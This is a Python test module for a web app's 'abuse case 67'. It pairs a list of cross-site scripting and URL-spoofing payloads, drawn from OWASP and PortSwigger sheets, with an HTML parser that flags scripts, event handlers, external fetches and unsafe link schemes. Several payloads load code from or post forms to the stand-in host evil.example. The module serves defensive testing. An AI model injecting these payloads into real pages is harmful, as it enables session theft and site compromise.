"""Texts that attack the page that shows them (abuse case 67), and what tells whether one succeeded."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

# From the OWASP and PortSwigger sheets: tags, handlers, addresses, broken quotes, encodings, what ends a script or a comment.
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example/><input name=x></form>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{ 7|add:7 }}{% load static %}",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:\\evil.example",
    "https://user:pass@evil.example@/",
    "\u202ehttps://evil.example/\u2028</script>",
    "<a style='background:url(//evil.example/)'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
)
_RUNS = {"iframe", "object", "embed", "base", "style", "applet", "frame", "math", "template", "noscript"}
_FETCHES = {"src", "srcset", "data", "poster", "background", "action", "formaction", "srcdoc", "xlink:href"}


def payloads():
    return PAYLOADS


class _Watch(HTMLParser):
    """`links`: what a click would open, and its `rel`; `dangers`: what runs, fetches or sends by itself."""

    def __init__(self):
        super().__init__()
        self.dangers, self.links = [], []

    def handle_starttag(self, tag, attrs):
        said = dict(attrs)
        if tag in _RUNS or (tag == "script" and not _is_ours(said)):
            self.dangers.append((tag, said))
        if tag == "meta" and "http-equiv" in said:
            self.dangers.append((tag, said))
        for name, value in said.items():
            if name.startswith("on") or name == "style":
                self.dangers.append((tag, name))
            if name in _FETCHES or (name == "href" and tag in {"link", "use"}):
                self.dangers += [(tag, name, value)] if not _is_inside(value, tag, said) else []
            if name == "href" and tag == "a":
                self.links.append((value, said.get("rel", "")))
                self.dangers += [(tag, name, value)] if _scheme(value) not in _OPENED else []

    handle_startendtag = handle_starttag


def leaves(href):
    """Whether this link goes to another site, as browsers read it."""
    start = "".join(sign for sign in href or "" if sign > " ").replace("\\", "/").lower()
    return start.startswith(("//", "http:", "https:"))


_OPENED = {"", "http", "https", "tel", "sms", "mailto"}


def _scheme(value):
    cleaned = "".join(sign for sign in value or "" if sign > " ")  # as browsers read an address
    try:
        return urlsplit(cleaned).scheme.lower()
    except ValueError:
        return "" if ":" not in cleaned.split("/")[0] else "unreadable"


def _is_ours(said):
    source = said.get("src", "")
    return source.startswith("/static/") or said.get("type") == "application/ld+json"


def _is_inside(value, tag, said):
    described = tag == "link" and said.get("rel") in {"schema.DC", "alternate"}  # named, never fetched
    return described or ((value or "").startswith("/") and not (value or "").startswith(("//", "/\\")))


def watch(html):
    seen = _Watch()
    seen.feed(html)
    seen.close()
    return seen


def danger_of(html):
    """What in that page would run, fetch elsewhere or send; none, if all is well."""
    return watch(html).dangers
